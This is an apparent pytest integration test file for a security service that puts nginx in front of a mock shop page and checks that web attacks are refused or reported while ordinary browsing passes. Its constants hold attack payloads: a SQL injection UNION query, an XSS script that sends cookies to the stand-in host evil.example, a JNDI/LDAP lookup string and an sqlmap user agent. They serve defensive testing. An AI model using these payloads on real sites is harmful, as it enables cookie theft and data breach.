"""Debian's nginx in front of a page, with the files of docs/nginx, and the real service behind."""

import dataclasses
import itertools
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from soc_copilot.domain.alerts import AlertFilter
from soc_copilot.governance.database import Governance
from tests.integration.conftest import PATIENCE_S, wait_until
from tests.tools.checking import CheckingService
from tests.tools.nginx_check import CLOSED, ONLY_REPORT, CheckingNginx

PAGE = b"""<!doctype html><html lang="en"><head><title>Garden shop</title>
<link rel="stylesheet" href="/style.css"></head><body><h1>Garden shop</h1>
<img src="/img/rose.png" alt="A rose"><form method="post" action="/order">
<input name="name"><textarea name="wish"></textarea><button>Order</button></form>
<script>document.title += " - open";</script></body></html>"""
PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40
FILES = {
    "/": (PAGE, "text/html; charset=utf-8"),
    "/style.css": (b"h1 { color: darkgreen }\n" * 200, "text/css"),
    "/img/rose.png": (PICTURE, "image/png"),
}
BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Accept": "text/html,application/xhtml+xml,*/*;q=0.8",
    "Accept-Language": "en-GB,en;q=0.7,de;q=0.3",
    "Cookie": "session=5f2c9a0e41; theme=dark; consent=%7B%22ads%22%3Afalse%7D",
}
SQLI = "1' UNION SELECT username, password FROM users-- "
XSS = "<script>document.location='//evil.example/?c='+document.cookie</script>"
NUMBERS = itertools.count(1)
FORM = "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class Got:
    """An answer, or a request as the page got it."""

    first: Any  # status, or method
    target: str
    body: bytes


class Page:
    """The shop behind nginx; remembers what reaches it."""

    def __init__(self) -> None:
        seen = self.seen = list[Got]()

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                seen.append(Got(self.command, self.path, body))
                path = self.path.partition("?")[0]
                content, kind = FILES.get(path, (b"<p>Thank you.</p>", "text/html"))
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(content)

            do_GET = do_HEAD = do_POST = answer  # noqa: N815 - the library's names

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.port = self._server.server_port
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(PATIENCE_S)


class Service(CheckingService):
    """The service, and what became of what it saw."""

    def governance(self) -> Governance:
        """Its database."""
        home = Path(self.terminal.environment["SOC_COPILOT_HOME"])
        return Governance.open(self.terminal.database, home=home)

    def reported(self, site: "Site") -> int:
        """Requests of a visitor that alerts tell of, up to an attack that is sent last."""
        word = f"last-{next(NUMBERS)}"
        site.ask("/last?q=" + quote(XSS + word), "POST", XSS.encode(), Content_Type=FORM)
        everything = AlertFilter(entity=site.visitor)
        last = dataclasses.replace(everything, text=word)
        with self.governance() as governance:
            alerts = governance.alerts
            wait_until(lambda: alerts.count(last) > 0, "the last attack is in an alert")
            return sum(alert.count for alert in alerts.page(everything)) - 1


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    folder = tmp_path_factory.mktemp("service")
    it = Service(folder, detectors=("web",), phishing="{enabled: no}")
    yield it
    it.close()


class Site:
    """nginx with docs/nginx in front of the page.

    Attributes:
        visitor: The address that requests come from; another for each site.

    Args:
        folder: Of nginx.
        checker: Port of the service.
        token: Of the service.
        changes: What stands in server.conf, and what an administrator writes instead.
    """

    def __init__(self, folder: Path, checker: int, token: str, changes: dict[str, str]) -> None:
        self.visitor = f"127.0.1.{next(NUMBERS)}"
        self.page = Page()
        location = f"location / {{ proxy_pass http://127.0.0.1:{self.page.port}; }}"
        self.nginx = CheckingNginx(folder, checker, token, location, changes)
        self._connection = HTTPConnection(
            "127.0.0.1", self.nginx.port, PATIENCE_S, (self.visitor, 0)
        )

    def ask(
        self, target: str, method: str = "GET", body: bytes | None = None, **headers: str
    ) -> Got:
        """Send a browser's request; underscores in names of headers are dashes.

        All go over one connection, so that nginx is done with one, its mirror included,
        before it looks at the next.
        """
        own = {name.replace("_", "-"): value for name, value in headers.items()}
        self._connection.request(method, target, body, {**BROWSER, **own})
        answer = self._connection.getresponse()
        return Got(answer.status, target, answer.read())

    def close(self) -> None:
        self._connection.close()
        self.nginx.close()
        self.page.close()


class Builder:
    """Makes sites that end with the test."""

    def __init__(self, folder: Path) -> None:
        self._folder = folder
        self._sites: list[Site] = []

    def make(self, checker: int, token: str, changes: dict[str, str] | None = None) -> Site:
        site = Site(self._folder / f"nginx{len(self._sites)}", checker, token, changes or {})
        self._sites.append(site)
        return site

    def of(self, service: Service, changes: dict[str, str] | None = None) -> Site:
        return self.make(service.port, service.token, changes)

    def close(self) -> None:
        for site in self._sites:
            site.close()


@pytest.fixture
def sites(tmp_path: Path) -> Iterator[Builder]:
    it = Builder(tmp_path)
    yield it
    it.close()


def browse(site: Site) -> None:
    """What a visitor does; all of it comes to the page as it was sent, and back."""
    for path, (content, _) in FILES.items():
        assert site.ask(path) == Got(200, path, content)
    searches = ["/search?q=roses+%26+thorns&page=2", "/search?q=O%27Brien%3A+%22select%22+seeds"]
    for target in searches:
        assert site.ask(target).first == 200
    assert site.ask("/", "HEAD") == Got(200, "/", b"")
    wish = f"name=Zo%C3%AB+O%27Brien&wish={quote('3 roses (red), <b>soon</b> please; 50% off?')}"
    upload = b"\x00\xff" * 1_000_000  # more than the service takes
    posts = [
        ("/order", wish.encode(), FORM),
        (
            "/api/cart",
            b'{"items": [{"id": 17, "n": 3}], "note": "it\'s a gift"}',
            "application/json",
        ),
        ("/upload", upload, "application/octet-stream"),
    ]
    for target, body, kind in posts:
        assert site.ask(target, "POST", body, Content_Type=kind).first == 200
    expected = [Got("GET", target, b"") for target in (*FILES, *searches)]
    expected += [Got("HEAD", "/", b""), *(Got("POST", target, body) for target, body, _ in posts)]
    assert site.page.seen == expected
    site.page.seen.clear()


ATTACKS = {
    "query": ("/item?id=" + quote(SQLI), {}),
    "path": ("/shop/" + quote(XSS, safe="") + "/list", {}),
    "twice encoded": ("/search?q=" + quote(quote(XSS)), {}),
    "cookie": ("/", {"Cookie": "session=" + quote(SQLI)}),
    "agent": ("/", {"User_Agent": "${jndi:ldap://evil.example/a}"}),
    "scanner": ("/", {"User_Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
}


@pytest.mark.slow
def test_attacks_are_refused_and_browsing_is_not(service: Service, sites: Builder) -> None:
    site, other = sites.of(service), sites.of(service)
    browse(site)
    browse(other)
    for name, (target, headers) in ATTACKS.items():
        assert site.ask(target, **headers).first == 403, name
    assert site.ask("/order?x=" + quote(XSS), "POST", b"a=b", Content_Type=FORM).first == 403
    assert site.page.seen == []
    browse(site)
    assert service.reported(site) == len(ATTACKS) + 1
    assert service.reported(other) == 0


@pytest.mark.slow
def test_attacks_in_bodies_are_reported(service: Service, sites: Builder) -> None:
    site = sites.of(service)
    browse(site)
    bodies = {
        "/order": (f"name=Eve&wish={quote(SQLI)}".encode(), FORM),
        "/api/cart": (b'{"note": "' + XSS.encode() + b'"}', "application/json"),
    }
    for target, (body, kind) in bodies.items():
        assert site.ask(target, "POST", body, Content_Type=kind).first == 200
    assert site.page.seen == [Got("POST", target, body) for target, (body, _) in bodies.items()]
    assert service.reported(site) == len(bodies)


@pytest.mark.slow
def test_mirroring_alone_refuses_nothing(service: Service, sites: Builder) -> None:
    site = sites.of(service, ONLY_REPORT)
    browse(site)
    for target, headers in ATTACKS.values():
        assert site.ask(target, **headers).first == 200
    assert [got.target for got in site.page.seen] == [target for target, _ in ATTACKS.values()]
    assert service.reported(site) == len(ATTACKS)


@pytest.mark.slow
@pytest.mark.parametrize("trouble", ["stopped", "wrong token"])
def test_without_a_check_the_site_is_open_or_closed(
    service: Service, sites: Builder, trouble: str
) -> None:
    attack = ATTACKS["query"][0]
    with refusing() as nobody:
        checker = nobody.getsockname()[1] if trouble == "stopped" else service.port
        site = sites.make(checker, "x" * 43)
        browse(site)
        assert site.ask(attack).first == 200
        site = sites.make(checker, "x" * 43, CLOSED)
        for target in ("/", attack, "/style.css"):
            assert site.ask(target).first == 500
        assert site.page.seen == []


@pytest.mark.slow
def test_the_kill_switch_stops_the_check(service: Service, sites: Builder) -> None:
    attack = ATTACKS["query"][0]
    site, closed = sites.of(service), sites.of(service, CLOSED)
    assert (site.ask(attack).first, closed.ask("/").first) == (403, 200)
    with service.governance() as governance:
        governance.kill_switch.engage("A test.")
        try:
            wait_until(lambda: closed.ask("/").first == 500, "nothing is checked any more")
            assert site.ask(attack).first == 200
        finally:
            governance.kill_switch.release("The test is over.")
    wait_until(lambda: site.ask(attack).first == 403, "requests are checked again")


def test_visitors_reach_nothing_of_the_service(sites: Builder) -> None:
    with refusing() as nobody:
        site = sites.make(nobody.getsockname()[1], "x")
        for target in ("/soc-copilot/check", "/soc-copilot/mirror", "/soc-copilot/"):
            assert site.ask(target).first == 404, target
    assert site.page.seen == []


def refusing() -> socket.socket:
    """A socket that keeps a port and lets nobody connect."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    return sock
